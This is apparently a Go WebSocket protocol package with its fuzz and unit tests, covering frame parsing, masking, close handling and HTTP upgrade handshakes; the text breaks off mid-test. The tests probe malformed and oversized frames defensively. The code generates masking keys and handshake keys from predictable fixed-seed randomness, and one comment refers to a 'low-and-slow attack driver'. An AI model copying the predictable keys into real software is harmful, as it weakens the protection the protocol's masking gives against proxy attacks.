// Opcode is a WebSocket frame opcode.
type Opcode byte

// RFC 6455 opcodes.
const (
	OpContinuation Opcode = 0x0
	OpText         Opcode = 0x1
	OpBinary       Opcode = 0x2
	OpClose        Opcode = 0x8
	OpPing         Opcode = 0x9
	OpPong         Opcode = 0xA
)

// Control reports whether the opcode is a control opcode.
func (op Opcode) Control() bool { return op >= 0x8 }

// String returns the opcode name.
func (op Opcode) String() string {
	switch op {
	case OpContinuation:
		return "continuation"
	case OpText:
		return "text"
	case OpBinary:
		return "binary"
	case OpClose:
		return "close"
	case OpPing:
		return "ping"
	case OpPong:
		return "pong"
	}
	return fmt.Sprintf("opcode(%#x)", byte(op))
}

// Close codes from RFC 6455 §7.4.1.
const (
	CloseNormal          = 1000
	CloseGoingAway       = 1001
	CloseProtocolError   = 1002
	CloseUnsupported     = 1003
	CloseInvalidPayload  = 1007
	ClosePolicyViolation = 1008
	CloseTooBig          = 1009
	CloseInternalError   = 1011
)

// Protocol errors.
var (
	ErrBadHandshake     = errors.New("wsproto: bad handshake")
	ErrReservedBits     = errors.New("wsproto: non-zero reserved bits")
	ErrFragmentedCtl    = errors.New("wsproto: fragmented control frame")
	ErrControlTooLong   = errors.New("wsproto: control frame payload > 125")
	ErrUnmaskedClient   = errors.New("wsproto: client frame not masked")
	ErrMaskedServer     = errors.New("wsproto: server frame masked")
	ErrMessageTooBig    = errors.New("wsproto: message exceeds size limit")
	ErrUnexpectedOpcode = errors.New("wsproto: unexpected opcode")
	ErrClosed           = errors.New("wsproto: connection closed")
)

// magicGUID is the RFC 6455 handshake GUID.
const magicGUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

// AcceptKey computes Sec-WebSocket-Accept for a Sec-WebSocket-Key.
func AcceptKey(key string) string {
	h := sha1.Sum([]byte(key + magicGUID))
	return base64.StdEncoding.EncodeToString(h[:])
}

// Frame is one decoded WebSocket frame.
type Frame struct {
	Fin     bool
	Opcode  Opcode
	Masked  bool
	Payload []byte
}

// Header returns the encoded frame header for a payload of the frame's
// length, with the given masking key (nil for unmasked).
func appendHeader(dst []byte, fin bool, op Opcode, payloadLen int, maskKey []byte) []byte {
	b0 := byte(op)
	if fin {
		b0 |= 0x80
	}
	dst = append(dst, b0)
	maskBit := byte(0)
	if maskKey != nil {
		maskBit = 0x80
	}
	switch {
	case payloadLen < 126:
		dst = append(dst, maskBit|byte(payloadLen))
	case payloadLen <= 0xFFFF:
		dst = append(dst, maskBit|126)
		var ext [2]byte
		binary.BigEndian.PutUint16(ext[:], uint16(payloadLen))
		dst = append(dst, ext[:]...)
	default:
		dst = append(dst, maskBit|127)
		var ext [8]byte
		binary.BigEndian.PutUint64(ext[:], uint64(payloadLen))
		dst = append(dst, ext[:]...)
	}
	if maskKey != nil {
		dst = append(dst, maskKey...)
	}
	return dst
}

// maskBytes XORs payload in place with the 4-byte key starting at
// offset pos, returning the next offset.
func maskBytes(key []byte, pos int, b []byte) int {
	for i := range b {
		b[i] ^= key[pos&3]
		pos++
	}
	return pos
}

// EncodeFrame encodes a single complete frame. If maskKey is non-nil
// it must be 4 bytes and the payload is masked (client→server
// direction). The payload slice is not modified.
func EncodeFrame(fin bool, op Opcode, payload, maskKey []byte) []byte {
	out := appendHeader(make([]byte, 0, len(payload)+14), fin, op, len(payload), maskKey)
	if maskKey == nil {
		return append(out, payload...)
	}
	start := len(out)
	out = append(out, payload...)
	maskBytes(maskKey, 0, out[start:])
	return out
}

// FrameReader decodes frames from a byte stream.
type FrameReader struct {
	r        *bufio.Reader
	maxFrame int
}

// NewFrameReader wraps r with a frame decoder. maxFrame bounds single
// frame payloads; <=0 means the 64 MiB default.
func NewFrameReader(r io.Reader, maxFrame int) *FrameReader {
	if maxFrame <= 0 {
		maxFrame = 64 << 20
	}
	return &FrameReader{r: bufio.NewReader(r), maxFrame: maxFrame}
}

// ReadFrame reads and unmasks the next frame.
func (fr *FrameReader) ReadFrame() (*Frame, error) {
	var hdr [2]byte
	if _, err := io.ReadFull(fr.r, hdr[:]); err != nil {
		return nil, err
	}
	fin := hdr[0]&0x80 != 0
	if hdr[0]&0x70 != 0 {
		return nil, ErrReservedBits
	}
	op := Opcode(hdr[0] & 0x0F)
	masked := hdr[1]&0x80 != 0
	length := uint64(hdr[1] & 0x7F)
	switch length {
	case 126:
		var ext [2]byte
		if _, err := io.ReadFull(fr.r, ext[:]); err != nil {
			return nil, err
		}
		length = uint64(binary.BigEndian.Uint16(ext[:]))
	case 127:
		var ext [8]byte
		if _, err := io.ReadFull(fr.r, ext[:]); err != nil {
			return nil, err
		}
		length = binary.BigEndian.Uint64(ext[:])
	}
	if op.Control() {
		if !fin {
			return nil, ErrFragmentedCtl
		}
		if length > 125 {
			return nil, ErrControlTooLong
		}
	}
	if length > uint64(fr.maxFrame) {
		return nil, ErrMessageTooBig
	}
	var maskKey [4]byte
	if masked {
		if _, err := io.ReadFull(fr.r, maskKey[:]); err != nil {
			return nil, err
		}
	}
	payload := make([]byte, length)
	if _, err := io.ReadFull(fr.r, payload); err != nil {
		return nil, err
	}
	if masked {
		maskBytes(maskKey[:], 0, payload)
	}
	return &Frame{Fin: fin, Opcode: op, Masked: masked, Payload: payload}, nil
}

// Conn is an established WebSocket connection. It enforces the
// role-dependent masking rules: clients mask outgoing frames, servers
// must not; each side validates the peer's compliance.
type Conn struct {
	raw      net.Conn
	fr       *FrameReader
	isClient bool
	maxMsg   int
	rng      *rand.Rand

	wmu    sync.Mutex
	closed bool

	// CloseCode and CloseReason record the peer's close frame.
	CloseCode   int
	CloseReason string
}

func newConn(raw net.Conn, isClient bool, maxMsg int) *Conn {
	if maxMsg <= 0 {
		maxMsg = 64 << 20
	}
	return &Conn{
		raw: raw, fr: NewFrameReader(raw, maxMsg),
		isClient: isClient, maxMsg: maxMsg,
		rng: rand.New(rand.NewSource(0x6a757079)), // masking keys need no crypto strength
	}
}

// Underlying returns the wrapped net.Conn.
func (c *Conn) Underlying() net.Conn { return c.raw }

// WriteMessage sends one complete message (no fragmentation).
func (c *Conn) WriteMessage(op Opcode, payload []byte) error {
	var mask []byte
	if c.isClient {
		var k [4]byte
		binary.BigEndian.PutUint32(k[:], c.rng.Uint32())
		mask = k[:]
	}
	frame := EncodeFrame(true, op, payload, mask)
	c.wmu.Lock()
	defer c.wmu.Unlock()
	if c.closed {
		return ErrClosed
	}
	_, err := c.raw.Write(frame)
	return err
}

// WriteFragmented sends a message split into chunkSize fragments, used
// by tests and by the low-and-slow attack driver.
func (c *Conn) WriteFragmented(op Opcode, payload []byte, chunkSize int) error {
	if chunkSize <= 0 || chunkSize >= len(payload) {
		return c.WriteMessage(op, payload)
	}
	first := true
	for len(payload) > 0 {
		n := chunkSize
		if n > len(payload) {
			n = len(payload)
		}
		chunk := payload[:n]
		payload = payload[n:]
		fop := OpContinuation
		if first {
			fop = op
			first = false
		}
		var mask []byte
		if c.isClient {
			var k [4]byte
			binary.BigEndian.PutUint32(k[:], c.rng.Uint32())
			mask = k[:]
		}
		frame := EncodeFrame(len(payload) == 0, fop, chunk, mask)
		c.wmu.Lock()
		if c.closed {
			c.wmu.Unlock()
			return ErrClosed
		}
		_, err := c.raw.Write(frame)
		c.wmu.Unlock()
		if err != nil {
			return err
		}
	}
	return nil
}

// ReadMessage reads the next complete data message, transparently
// answering pings and reassembling fragments. It returns the data
// opcode (text or binary) and full payload. A close frame yields
// ErrClosed with CloseCode/CloseReason populated.
func (c *Conn) ReadMessage() (Opcode, []byte, error) {
	var (
		msgOp  Opcode
		buf    []byte
		inFrag bool
	)
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			return 0, nil, err
		}
		// Masking direction checks.
		if c.isClient && f.Masked {
			return 0, nil, ErrMaskedServer
		}
		if !c.isClient && !f.Masked && !f.Opcode.Control() {
			return 0, nil, ErrUnmaskedClient
		}
		switch f.Opcode {
		case OpPing:
			if err := c.WriteMessage(OpPong, f.Payload); err != nil {
				return 0, nil, err
			}
			continue
		case OpPong:
			continue
		case OpClose:
			c.CloseCode, c.CloseReason = ParseClosePayload(f.Payload)
			_ = c.writeCloseLocked(c.CloseCode, "")
			return 0, nil, ErrClosed
		case OpText, OpBinary:
			if inFrag {
				return 0, nil, ErrUnexpectedOpcode
			}
			if f.Fin {
				return f.Opcode, f.Payload, nil
			}
			msgOp, buf, inFrag = f.Opcode, append([]byte(nil), f.Payload...), true
		case OpContinuation:
			if !inFrag {
				return 0, nil, ErrUnexpectedOpcode
			}
			buf = append(buf, f.Payload...)
			if len(buf) > c.maxMsg {
				return 0, nil, ErrMessageTooBig
			}
			if f.Fin {
				return msgOp, buf, nil
			}
		default:
			return 0, nil, ErrUnexpectedOpcode
		}
	}
}

// ParseClosePayload decodes a close frame payload.
func ParseClosePayload(p []byte) (code int, reason string) {
	if len(p) < 2 {
		return CloseNormal, ""
	}
	return int(binary.BigEndian.Uint16(p[:2])), string(p[2:])
}

// ClosePayload encodes a close frame payload.
func ClosePayload(code int, reason string) []byte {
	p := make([]byte, 2+len(reason))
	binary.BigEndian.PutUint16(p, uint16(code))
	copy(p[2:], reason)
	return p
}

func (c *Conn) writeCloseLocked(code int, reason string) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	if c.closed {
		return nil
	}
	c.closed = true
	var mask []byte
	if c.isClient {
		mask = []byte{0, 0, 0, 0}
	}
	frame := EncodeFrame(true, OpClose, ClosePayload(code, reason), mask)
	// The close frame is best-effort: a peer that has stopped reading
	// must not wedge shutdown, so bound the write.
	_ = c.raw.SetWriteDeadline(time.Now().Add(250 * time.Millisecond))
	_, err := c.raw.Write(frame)
	_ = c.raw.SetWriteDeadline(time.Time{})
	return err
}

// Close sends a close frame and closes the transport.
func (c *Conn) Close(code int, reason string) error {
	err := c.writeCloseLocked(code, reason)
	if cerr := c.raw.Close(); err == nil {
		err = cerr
	}
	return err
}

// ---- Handshakes ----

// CloseCodeForError maps a ReadMessage/ReadFrame error onto the RFC
// 6455 close code a server should send before dropping the
// connection: protocol violations (masking, reserved bits, fragment
// discipline) are 1002, an oversized message is 1009, anything else
// (I/O, decode) is 1011. Servers that close with the right code give
// compliant clients an actionable reason instead of a bare TCP reset.
func CloseCodeForError(err error) int {
	switch {
	case errors.Is(err, ErrMessageTooBig):
		return CloseTooBig
	case errors.Is(err, ErrReservedBits), errors.Is(err, ErrFragmentedCtl),
		errors.Is(err, ErrControlTooLong), errors.Is(err, ErrUnmaskedClient),
		errors.Is(err, ErrMaskedServer), errors.Is(err, ErrUnexpectedOpcode):
		return CloseProtocolError
	default:
		return CloseInternalError
	}
}

// Upgrade performs the server side of the opening handshake on an
// http.ResponseWriter that supports hijacking, returning the
// WebSocket connection with the default 64 MiB message limit.
func Upgrade(w http.ResponseWriter, r *http.Request) (*Conn, error) {
	return UpgradeLimit(w, r, 0)
}

// UpgradeLimit is Upgrade with an explicit per-message size limit
// (maxMsg <= 0 means the 64 MiB default). Ingest-style endpoints that
// accept frames from untrusted agents must bound what one message can
// buffer; ReadMessage fails with ErrMessageTooBig beyond the limit,
// which CloseCodeForError maps to close code 1009.
func UpgradeLimit(w http.ResponseWriter, r *http.Request, maxMsg int) (*Conn, error) {
	if !IsUpgradeRequest(r) {
		http.Error(w, "not a websocket upgrade", http.StatusBadRequest)
		return nil, ErrBadHandshake
	}
	key := r.Header.Get("Sec-WebSocket-Key")
	if key == "" {
		http.Error(w, "missing Sec-WebSocket-Key", http.StatusBadRequest)
		return nil, ErrBadHandshake
	}
	hj, ok := w.(http.Hijacker)
	if !ok {
		http.Error(w, "cannot hijack", http.StatusInternalServerError)
		return nil, errors.New("wsproto: response writer does not support hijacking")
	}
	raw, rw, err := hj.Hijack()
	if err != nil {
		return nil, fmt.Errorf("wsproto: hijack: %w", err)
	}
	resp := "HTTP/1.1 101 Switching Protocols\r\n" +
		"Upgrade: websocket\r\n" +
		"Connection: Upgrade\r\n" +
		"Sec-WebSocket-Accept: " + AcceptKey(key) + "\r\n\r\n"
	if _, err := rw.WriteString(resp); err != nil {
		raw.Close()
		return nil, err
	}
	if err := rw.Flush(); err != nil {
		raw.Close()
		return nil, err
	}
	return newConn(raw, false, maxMsg), nil
}

// IsUpgradeRequest reports whether r is a WebSocket upgrade request.
func IsUpgradeRequest(r *http.Request) bool {
	return strings.EqualFold(r.Header.Get("Upgrade"), "websocket") &&
		headerContainsToken(r.Header.Get("Connection"), "upgrade")
}

func headerContainsToken(header, token string) bool {
	for _, part := range strings.Split(header, ",") {
		if strings.EqualFold(strings.TrimSpace(part), token) {
			return true
		}
	}
	return false
}

// Dial performs the client side of the handshake over an established
// net.Conn. path is the request target; host fills the Host header;
// extra headers (e.g. Authorization) may be supplied.
func Dial(raw net.Conn, host, path string, extra http.Header) (*Conn, error) {
	keyBytes := make([]byte, 16)
	rng := rand.New(rand.NewSource(int64(len(path))*7919 + int64(len(host))))
	for i := range keyBytes {
		keyBytes[i] = byte(rng.Intn(256))
	}
	key := base64.StdEncoding.EncodeToString(keyBytes)

	var req strings.Builder
	fmt.Fprintf(&req, "GET %s HTTP/1.1\r\n", path)
	fmt.Fprintf(&req, "Host: %s\r\n", host)
	req.WriteString("Upgrade: websocket\r\nConnection: Upgrade\r\n")
	fmt.Fprintf(&req, "Sec-WebSocket-Key: %s\r\n", key)
	req.WriteString("Sec-WebSocket-Version: 13\r\n")
	for k, vs := range extra {
		for _, v := range vs {
			fmt.Fprintf(&req, "%s: %s\r\n", k, v)
		}
	}
	req.WriteString("\r\n")
	if _, err := raw.Write([]byte(req.String())); err != nil {
		return nil, err
	}

	br := bufio.NewReader(raw)
	resp, err := http.ReadResponse(br, &http.Request{Method: "GET"})
	if err != nil {
		return nil, fmt.Errorf("wsproto: read handshake response: %w", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusSwitchingProtocols {
		return nil, fmt.Errorf("%w: status %d", ErrBadHandshake, resp.StatusCode)
	}
	if got := resp.Header.Get("Sec-WebSocket-Accept"); got != AcceptKey(key) {
		return nil, fmt.Errorf("%w: bad accept key", ErrBadHandshake)
	}
	c := newConn(raw, true, 0)
	// The response reader may have buffered frames; keep using it.
	c.fr = NewFrameReader(br, c.maxMsg)
	return c, nil
}
