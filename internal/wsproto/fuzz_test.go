package wsproto

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

// The frame reader consumes attacker-controlled bytes directly off the
// network; it must never panic and never allocate unboundedly for any
// input.

func TestFrameReaderNeverPanics(t *testing.T) {
	f := func(data []byte) bool {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("ReadFrame panicked on %x: %v", data, r)
			}
		}()
		fr := NewFrameReader(bytes.NewReader(data), 1<<20)
		for i := 0; i < 16; i++ {
			if _, err := fr.ReadFrame(); err != nil {
				return true
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestFrameReaderBoundedAllocationOnLyingLength(t *testing.T) {
	// A header claiming a huge payload with no bytes behind it must
	// fail at the size check, not attempt the allocation.
	hdr := []byte{0x82, 127, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}
	fr := NewFrameReader(bytes.NewReader(hdr), 1<<20)
	if _, err := fr.ReadFrame(); err != ErrMessageTooBig {
		t.Fatalf("err = %v", err)
	}
}

func TestFrameReaderTruncatedEverywhere(t *testing.T) {
	full := EncodeFrame(true, OpBinary, bytes.Repeat([]byte{0xAA}, 300), []byte{1, 2, 3, 4})
	for cut := 0; cut < len(full); cut++ {
		fr := NewFrameReader(bytes.NewReader(full[:cut]), 0)
		if _, err := fr.ReadFrame(); err == nil {
			t.Fatalf("truncation at %d accepted", cut)
		}
	}
}

func TestConnReadMessageGarbageStreams(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	for trial := 0; trial < 200; trial++ {
		data := make([]byte, rng.Intn(512))
		rng.Read(data)
		fr := NewFrameReader(bytes.NewReader(data), 1<<16)
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("panic on garbage stream: %v", r)
				}
			}()
			for i := 0; i < 8; i++ {
				if _, err := fr.ReadFrame(); err != nil {
					return
				}
			}
		}()
	}
}
