package wsproto

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"testing/quick"
)

func TestAcceptKeyRFCVector(t *testing.T) {
	// The example from RFC 6455 §1.3.
	got := AcceptKey("dGhlIHNhbXBsZSBub25jZQ==")
	want := "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
	if got != want {
		t.Fatalf("AcceptKey = %q, want %q", got, want)
	}
}

func TestFrameRoundTripProperty(t *testing.T) {
	f := func(payload []byte, masked bool, fin bool) bool {
		var key []byte
		if masked {
			key = []byte{1, 2, 3, 4}
		}
		raw := EncodeFrame(fin, OpBinary, payload, key)
		fr := NewFrameReader(bytes.NewReader(raw), 0)
		frame, err := fr.ReadFrame()
		if err != nil {
			return false
		}
		return frame.Fin == fin && frame.Opcode == OpBinary &&
			frame.Masked == masked && bytes.Equal(frame.Payload, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestFrameLengthEncodings(t *testing.T) {
	for _, n := range []int{0, 1, 125, 126, 127, 65535, 65536, 70000} {
		payload := bytes.Repeat([]byte{0xAB}, n)
		raw := EncodeFrame(true, OpBinary, payload, nil)
		fr := NewFrameReader(bytes.NewReader(raw), 0)
		frame, err := fr.ReadFrame()
		if err != nil {
			t.Fatalf("n=%d: %v", n, err)
		}
		if len(frame.Payload) != n {
			t.Fatalf("n=%d: got %d", n, len(frame.Payload))
		}
	}
}

func TestMaskingActuallyMasks(t *testing.T) {
	payload := []byte("secret token data")
	raw := EncodeFrame(true, OpText, payload, []byte{9, 9, 9, 9})
	if bytes.Contains(raw, payload) {
		t.Fatal("masked frame contains plaintext payload")
	}
}

func TestControlFrameRules(t *testing.T) {
	// Fragmented control frame.
	raw := EncodeFrame(false, OpPing, []byte("x"), nil)
	fr := NewFrameReader(bytes.NewReader(raw), 0)
	if _, err := fr.ReadFrame(); !errors.Is(err, ErrFragmentedCtl) {
		t.Fatalf("err = %v", err)
	}
	// Oversized control payload: hand-craft header claiming 126 bytes.
	bad := []byte{0x89, 126, 0x00, 0x80}
	bad = append(bad, make([]byte, 128)...)
	fr = NewFrameReader(bytes.NewReader(bad), 0)
	if _, err := fr.ReadFrame(); !errors.Is(err, ErrControlTooLong) {
		t.Fatalf("err = %v", err)
	}
}

func TestReservedBitsRejected(t *testing.T) {
	raw := EncodeFrame(true, OpText, []byte("a"), nil)
	raw[0] |= 0x40 // set RSV1
	fr := NewFrameReader(bytes.NewReader(raw), 0)
	if _, err := fr.ReadFrame(); !errors.Is(err, ErrReservedBits) {
		t.Fatalf("err = %v", err)
	}
}

func TestFrameSizeLimit(t *testing.T) {
	raw := EncodeFrame(true, OpBinary, make([]byte, 4096), nil)
	fr := NewFrameReader(bytes.NewReader(raw), 1024)
	if _, err := fr.ReadFrame(); !errors.Is(err, ErrMessageTooBig) {
		t.Fatalf("err = %v", err)
	}
}

func TestClosePayloadRoundTrip(t *testing.T) {
	p := ClosePayload(CloseGoingAway, "maintenance")
	code, reason := ParseClosePayload(p)
	if code != CloseGoingAway || reason != "maintenance" {
		t.Fatalf("close = %d %q", code, reason)
	}
	if code, _ := ParseClosePayload(nil); code != CloseNormal {
		t.Fatalf("empty close payload code = %d", code)
	}
}

// pipePair builds a connected client/server conn pair over net.Pipe.
func pipePair() (*Conn, *Conn) {
	c1, c2 := net.Pipe()
	client := newConn(c1, true, 0)
	server := newConn(c2, false, 0)
	return client, server
}

func TestConnEcho(t *testing.T) {
	client, server := pipePair()
	defer client.Close(CloseNormal, "")
	go func() {
		op, payload, err := server.ReadMessage()
		if err != nil {
			return
		}
		_ = server.WriteMessage(op, payload)
	}()
	if err := client.WriteMessage(OpText, []byte("hello")); err != nil {
		t.Fatal(err)
	}
	op, payload, err := client.ReadMessage()
	if err != nil {
		t.Fatal(err)
	}
	if op != OpText || string(payload) != "hello" {
		t.Fatalf("echo = %s %q", op, payload)
	}
}

func TestConnFragmentedMessage(t *testing.T) {
	client, server := pipePair()
	defer client.Close(CloseNormal, "")
	payload := bytes.Repeat([]byte("0123456789"), 100)
	go func() {
		_ = client.WriteFragmented(OpBinary, payload, 64)
	}()
	op, got, err := server.ReadMessage()
	if err != nil {
		t.Fatal(err)
	}
	if op != OpBinary || !bytes.Equal(got, payload) {
		t.Fatalf("fragmented reassembly failed: %d bytes", len(got))
	}
}

func TestConnPingTransparency(t *testing.T) {
	client, server := pipePair()
	defer client.Close(CloseNormal, "")
	go func() {
		// Server sends ping; client must answer it internally. The
		// server consumes the pong (net.Pipe writes are synchronous)
		// before sending the data message the client should deliver.
		_ = server.WriteMessage(OpPing, []byte("beat"))
		if f, err := server.fr.ReadFrame(); err != nil || f.Opcode != OpPong {
			return
		}
		_ = server.WriteMessage(OpText, []byte("data"))
	}()
	op, payload, err := client.ReadMessage()
	if err != nil {
		t.Fatal(err)
	}
	if op != OpText || string(payload) != "data" {
		t.Fatalf("got %s %q", op, payload)
	}
}

func TestServerRejectsUnmaskedClientFrames(t *testing.T) {
	c1, c2 := net.Pipe()
	server := newConn(c2, false, 0)
	go func() {
		// Raw unmasked text frame, as a non-compliant client would send.
		_, _ = c1.Write(EncodeFrame(true, OpText, []byte("x"), nil))
	}()
	if _, _, err := server.ReadMessage(); !errors.Is(err, ErrUnmaskedClient) {
		t.Fatalf("err = %v", err)
	}
	c1.Close()
}

func TestClientRejectsMaskedServerFrames(t *testing.T) {
	c1, c2 := net.Pipe()
	client := newConn(c1, true, 0)
	go func() {
		_, _ = c2.Write(EncodeFrame(true, OpText, []byte("x"), []byte{1, 2, 3, 4}))
	}()
	if _, _, err := client.ReadMessage(); !errors.Is(err, ErrMaskedServer) {
		t.Fatalf("err = %v", err)
	}
	c1.Close()
}

func TestCloseHandshake(t *testing.T) {
	client, server := pipePair()
	go func() {
		_ = server.Close(CloseGoingAway, "shutting down")
	}()
	_, _, err := client.ReadMessage()
	if !errors.Is(err, ErrClosed) {
		t.Fatalf("err = %v", err)
	}
	if client.CloseCode != CloseGoingAway || client.CloseReason != "shutting down" {
		t.Fatalf("close = %d %q", client.CloseCode, client.CloseReason)
	}
}

func TestUnexpectedContinuation(t *testing.T) {
	c1, c2 := net.Pipe()
	client := newConn(c1, true, 0)
	go func() {
		_, _ = c2.Write(EncodeFrame(true, OpContinuation, []byte("x"), nil))
	}()
	if _, _, err := client.ReadMessage(); !errors.Is(err, ErrUnexpectedOpcode) {
		t.Fatalf("err = %v", err)
	}
	c1.Close()
}

// TestHTTPUpgradeEndToEnd exercises the real handshake path through
// net/http: Upgrade on the server, Dial on the client.
func TestHTTPUpgradeEndToEnd(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, err := Upgrade(w, r)
		if err != nil {
			return
		}
		defer conn.Close(CloseNormal, "")
		for {
			op, payload, err := conn.ReadMessage()
			if err != nil {
				return
			}
			if err := conn.WriteMessage(op, append([]byte("echo:"), payload...)); err != nil {
				return
			}
		}
	}))
	defer srv.Close()

	addr := strings.TrimPrefix(srv.URL, "http://")
	raw, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	conn, err := Dial(raw, addr, "/ws", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(CloseNormal, "")

	for i := 0; i < 3; i++ {
		msg := []byte(strings.Repeat("z", 100*(i+1)))
		if err := conn.WriteMessage(OpText, msg); err != nil {
			t.Fatal(err)
		}
		_, payload, err := conn.ReadMessage()
		if err != nil {
			t.Fatal(err)
		}
		if string(payload) != "echo:"+string(msg) {
			t.Fatalf("round %d: %q", i, payload[:10])
		}
	}
}

func TestUpgradeRejectsPlainRequest(t *testing.T) {
	rec := httptest.NewRecorder()
	req := httptest.NewRequest("GET", "/ws", nil)
	if _, err := Upgrade(rec, req); !errors.Is(err, ErrBadHandshake) {
		t.Fatalf("err = %v", err)
	}
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("status = %d", rec.Code)
	}
}

func TestDialRejectsNon101(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "no ws here", http.StatusNotFound)
	}))
	defer srv.Close()
	addr := strings.TrimPrefix(srv.URL, "http://")
	raw, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	if _, err := Dial(raw, addr, "/ws", nil); !errors.Is(err, ErrBadHandshake) {
		t.Fatalf("err = %v", err)
	}
}

func TestIsUpgradeRequest(t *testing.T) {
	req := httptest.NewRequest("GET", "/x", nil)
	if IsUpgradeRequest(req) {
		t.Fatal("plain request detected as upgrade")
	}
	req.Header.Set("Upgrade", "websocket")
	req.Header.Set("Connection", "keep-alive, Upgrade")
	if !IsUpgradeRequest(req) {
		t.Fatal("upgrade request not detected")
	}
}

func TestFrameReaderEOF(t *testing.T) {
	fr := NewFrameReader(bytes.NewReader(nil), 0)
	if _, err := fr.ReadFrame(); !errors.Is(err, io.EOF) {
		t.Fatalf("err = %v", err)
	}
}

func TestOpcodeString(t *testing.T) {
	if OpText.String() != "text" || OpClose.String() != "close" {
		t.Fatal("opcode names wrong")
	}
	if !OpPing.Control() || OpBinary.Control() {
		t.Fatal("control classification wrong")
	}
}

func TestCloseCodeForError(t *testing.T) {
	cases := []struct {
		err  error
		want int
	}{
		{ErrMessageTooBig, CloseTooBig},
		{ErrUnmaskedClient, CloseProtocolError},
		{ErrMaskedServer, CloseProtocolError},
		{ErrReservedBits, CloseProtocolError},
		{ErrFragmentedCtl, CloseProtocolError},
		{ErrControlTooLong, CloseProtocolError},
		{ErrUnexpectedOpcode, CloseProtocolError},
		{io.ErrUnexpectedEOF, CloseInternalError},
	}
	for _, c := range cases {
		if got := CloseCodeForError(c.err); got != c.want {
			t.Errorf("CloseCodeForError(%v) = %d, want %d", c.err, got, c.want)
		}
	}
}

// TestUpgradeLimitBoundsMessages pins that the server-side limit from
// UpgradeLimit reaches the frame reader: a client message over the
// limit fails with ErrMessageTooBig (close code 1009 territory), and
// one under it passes.
func TestUpgradeLimitBoundsMessages(t *testing.T) {
	serverErr := make(chan error, 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, err := UpgradeLimit(w, r, 1024)
		if err != nil {
			return
		}
		for {
			if _, _, err := conn.ReadMessage(); err != nil {
				serverErr <- err
				_ = conn.Close(CloseCodeForError(err), "")
				return
			}
		}
	}))
	defer srv.Close()
	addr := strings.TrimPrefix(srv.URL, "http://")
	raw, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	conn, err := Dial(raw, addr, "/ingest/ws", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(CloseNormal, "")
	if err := conn.WriteMessage(OpBinary, make([]byte, 512)); err != nil {
		t.Fatal(err)
	}
	if err := conn.WriteMessage(OpBinary, make([]byte, 4096)); err != nil {
		t.Fatal(err)
	}
	if err := <-serverErr; !errors.Is(err, ErrMessageTooBig) {
		t.Fatalf("server err = %v, want ErrMessageTooBig", err)
	}
	if _, _, err := conn.ReadMessage(); !errors.Is(err, ErrClosed) {
		t.Fatalf("client err = %v, want ErrClosed", err)
	}
	if conn.CloseCode != CloseTooBig {
		t.Fatalf("close code = %d, want %d", conn.CloseCode, CloseTooBig)
	}
}

// maskedFrame hand-encodes one client-side frame so tests can place
// control frames *between* fragments of a data message — something the
// Conn API deliberately never does on its own.
func maskedFrame(fin bool, op Opcode, payload []byte) []byte {
	return EncodeFrame(fin, op, payload, []byte{5, 6, 7, 8})
}

// TestReadMessageFragmentedInterleavedConcurrent drives ReadMessage on
// 128 concurrent server conns, each fed a stream of fragmented data
// messages with ping frames interleaved between the fragments (legal
// per RFC 6455 §5.5: control frames may be injected mid-fragmentation
// and must not corrupt reassembly). Run under -race this also proves
// independent conns share no mutable state.
func TestReadMessageFragmentedInterleavedConcurrent(t *testing.T) {
	const conns = 128
	const msgsPerConn = 8
	var wg sync.WaitGroup
	errs := make(chan error, conns)
	for i := 0; i < conns; i++ {
		wg.Add(1)
		go func(id int) {
			defer wg.Done()
			c1, c2 := net.Pipe()
			defer c1.Close()
			server := newConn(c2, false, 0)
			defer c2.Close()

			want := bytes.Repeat([]byte{byte('a' + id%26)}, 700)
			go func() {
				// Drain the pongs the server's ReadMessage answers;
				// net.Pipe writes block until read.
				fr := NewFrameReader(c1, 0)
				for {
					if _, err := fr.ReadFrame(); err != nil {
						return
					}
				}
			}()
			go func() {
				for m := 0; m < msgsPerConn; m++ {
					var stream []byte
					stream = append(stream, maskedFrame(false, OpText, want[:100])...)
					stream = append(stream, maskedFrame(true, OpPing, []byte("mid1"))...)
					stream = append(stream, maskedFrame(false, OpContinuation, want[100:400])...)
					stream = append(stream, maskedFrame(true, OpPing, []byte("mid2"))...)
					stream = append(stream, maskedFrame(true, OpContinuation, want[400:])...)
					if _, err := c1.Write(stream); err != nil {
						return
					}
				}
				_, _ = c1.Write(maskedFrame(true, OpClose, ClosePayload(CloseNormal, "done")))
			}()

			for m := 0; m < msgsPerConn; m++ {
				op, got, err := server.ReadMessage()
				if err != nil {
					errs <- fmt.Errorf("conn %d msg %d: %v", id, m, err)
					return
				}
				if op != OpText || !bytes.Equal(got, want) {
					errs <- fmt.Errorf("conn %d msg %d: op=%v len=%d", id, m, op, len(got))
					return
				}
			}
			if _, _, err := server.ReadMessage(); !errors.Is(err, ErrClosed) {
